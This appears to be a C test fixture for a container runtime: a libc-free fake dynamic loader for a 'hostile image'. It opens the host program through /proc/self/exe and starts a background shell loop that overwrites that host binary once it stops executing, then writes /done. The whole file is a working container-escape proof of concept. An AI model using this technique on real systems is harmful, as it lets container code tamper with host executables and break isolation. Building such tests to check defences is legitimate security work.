/*
 * The dynamic loader of a hostile image, without a C library. If a program of the host is executed
 * in the container, the kernel starts this code in its process, whose /proc/self/exe is that
 * program. It opens the program and becomes a shell that, in the background, writes to the program
 * as soon as nothing executes it, and makes the file /done at the end.
 */
#include <fcntl.h>
#include <sys/syscall.h>

static long call(long number, const volatile void *a, const volatile void *b,
		 const volatile void *c)
{
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return result;
}

/* Unlike a function that is called, it begins with an aligned stack. */
__attribute__((noreturn, force_align_arg_pointer)) void _start(void);

void _start(void)
{
	static const char script[] = "(while e=$({ echo overwritten >/proc/self/fd/250; } 2>&1);"
				     "case $e in *busy*) ;; *) false ;; esac;"
				     "do usleep 20000; done; echo done >/done) >/dev/null 2>&1 &";
	/* Stored one by one (volatile): nobody relocates the pointers in the data of this file. */
	const char *volatile argv[4], *volatile env[2];

	argv[0] = "sh";
	argv[1] = "-c";
	argv[2] = script;
	argv[3] = 0;
	env[0] = "PATH=/bin";
	env[1] = 0;
	call(SYS_dup2, (const void *)call(SYS_open, "/proc/self/exe", (const void *)O_RDONLY, 0),
	     (const void *)250, 0);
	call(SYS_execve, "/bin/sh", argv, env);
	call(SYS_exit, (const void *)99, 0, 0);
	for (;;)
		;
}
